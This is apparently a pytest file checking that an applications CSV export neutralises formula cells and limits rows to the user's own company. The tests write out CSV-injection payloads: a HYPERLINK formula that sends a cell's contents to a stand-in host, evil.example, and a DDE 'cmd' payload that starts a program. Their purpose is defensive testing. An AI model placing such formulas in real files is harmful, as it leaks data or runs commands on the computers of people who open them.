"""The applications list as CSV: formula cells neutralised (SECURITY_BAR item 13), only the
company's own rows and the list's filters (item 1)."""

from __future__ import annotations

import csv
import io

import pytest


def rows_of(resp) -> list[list[str]]:
    text = resp.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("value,expected", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("+358 40 123 4567", "'+358 40 123 4567"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("Aino", "Aino"), ("a=b", "a=b"), ("", ""), (None, ""), (7, "7"),
])
def test_bar_13_cells_are_neutralised(app, value, expected):
    from app.applications.export import neutralise

    assert neutralise(value) == expected


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_bar_13_export_neutralises_formulas_from_candidates(client, auth, make, prefix):
    company = make.company("acme")
    job = make.job(company, f"{prefix}HYPERLINK(\"http://evil.example\",\"job\")")
    application = make.application(job, given=f"{prefix}HYPERLINK(\"http://evil.example\",\"x\")",
                                   family=f"{prefix}cmd|' /C calc'!A0")
    auth.login("admin@acme.test")
    resp = client.get("/admin/applications/export.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert resp.headers["Content-Disposition"] == 'attachment; filename="applications.csv"'
    assert resp.headers["Cache-Control"] == "no-store" and resp.headers["X-Content-Type-Options"] == "nosniff"
    header, *rows = rows_of(resp)
    assert header[:3] == ["Candidate", "Email", "Job"] and len(rows) == 1
    cells = rows[0]
    stored_name, stored_title = application.candidate.full_name, job.title  # intake may strip a tab or CR
    for cell, stored in ((cells[0], stored_name), (cells[2], stored_title)):
        assert cell == ("'" + stored if stored.startswith(("=", "+", "-", "@", "\t", "\r")) else stored)
    if prefix.strip():
        assert cells[0].startswith("'" + prefix) and cells[2].startswith("'" + prefix)
    for cell in (c for row in [header, *rows] for c in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)


def test_bar_1_export_has_only_the_companys_rows_and_follows_the_filters(client, auth, make):
    acme, other = make.company("acme"), make.company("other")
    first, second = make.job(acme, "First"), make.job(acme, "Second")
    foreign = make.job(other, "Foreign")
    make.application(first, given="Aino", email="aino@example.fi")
    make.application(second, given="Bertil", email="bertil@example.se")
    make.application(foreign, given="Zed", email="zed@example.com")
    auth.login("admin@acme.test")
    everything = rows_of(client.get("/admin/applications/export.csv"))
    names = {row[0] for row in everything[1:]}
    assert names == {"Aino Virtanen", "Bertil Virtanen"}
    assert "Zed" not in client.get("/admin/applications/export.csv").get_data(as_text=True)
    filtered = rows_of(client.get(f"/admin/applications/export.csv?job={second.id}&q=bert"))
    assert [row[0] for row in filtered[1:]] == ["Bertil Virtanen"]
    assert client.get(f"/admin/applications/export.csv?job={foreign.id}").status_code == 404
    # the list page links the export with the same filters
    page = client.get(f"/admin/applications?job={second.id}").get_data(as_text=True)
    assert f"/admin/applications/export.csv?job={second.id}" in page.replace("&amp;", "&")


def test_bar_1_export_needs_a_company_user(app, client, make):
    make.company("acme")
    assert client.get("/admin/applications/export.csv").status_code == 302
    make.staff()
    from tests.support.clients import Auth

    Auth(client).login("staff@haku.test")
    assert client.get("/admin/applications/export.csv").status_code == 404
